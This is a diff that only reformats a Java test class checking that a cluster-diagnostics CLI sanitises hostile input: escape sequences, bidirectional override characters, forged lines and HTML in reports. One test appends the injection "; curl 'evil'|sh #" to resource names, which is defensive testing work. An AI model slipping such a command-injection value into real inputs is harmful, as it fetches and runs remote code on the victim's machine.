@@ -57,7 +57,9 @@ class HostileTextTest {
     private Path directory;
 
     private static void safe(String output) {
-        assertThat(UNSAFE.matcher(output).results().map(it -> Integer.toHexString(it.group().codePointAt(0))))
+        assertThat(UNSAFE.matcher(output)
+                        .results()
+                        .map(it -> Integer.toHexString(it.group().codePointAt(0))))
                 .as(output)
                 .isEmpty();
         assertThat(output.lines()).noneMatch(line -> line.startsWith(FORGED));
@@ -183,7 +185,8 @@ class HostileTextTest {
         Path file = Files.writeString(directory.resolve("gateway.yaml"), "\"a" + yaml() + "\": \"b" + yaml() + "\"\n");
         Path broken = Files.writeString(directory.resolve("broken.json"), "{\"kind\": \"List" + "\", \u001b[2J\u202e");
         Path bundle = Files.writeString(
-                directory.resolve("bundle.txt"), "--- sluice:node ---\nformat: 1" + LEGAL + "\nname: a100-mig-2\ntime: " + LEGAL);
+                directory.resolve("bundle.txt"),
+                "--- sluice:node ---\nformat: 1" + LEGAL + "\nname: a100-mig-2\ntime: " + LEGAL);
 
         safe(Cli.run("check", "--config", file));
         safe(Cli.run("check", "--config", named));
@@ -241,8 +244,10 @@ class HostileTextTest {
     @Test
     void aNameInACommandToPasteIsOneWord() throws IOException {
         Set<String> commands = new TreeSet<>();
-        for (String name : cases().filter(it -> it.matches("(failed|held|mig|plugin|quota|gated|claim).*")).toList()) {
-            JsonNode cluster = YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);
+        for (String name : cases().filter(it -> it.matches("(failed|held|mig|plugin|quota|gated|claim).*"))
+                .toList()) {
+            JsonNode cluster =
+                    YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);
             Path file = written(appended(cluster, "", WORDS_OF_THE_API, "; curl 'evil'|sh #"));
             Path report = directory.resolve("report.html");
             Cli run = Cli.run("doctor", "--cluster-snapshot", file, "--report", report);
@@ -254,8 +259,9 @@ class HostileTextTest {
                     .toList();
             commands.addAll(next);
             String html = Files.readString(report);
-            assertThat(next).allMatch(command -> html.contains("<code>"
-                    + command.replace("'", "&#39;").replace(">", "&gt;") + "</code>"));
+            assertThat(next)
+                    .allMatch(command -> html.contains(
+                            "<code>" + command.replace("'", "&#39;").replace(">", "&gt;") + "</code>"));
         }
 
         assertThat(commands).hasSizeGreaterThan(8);
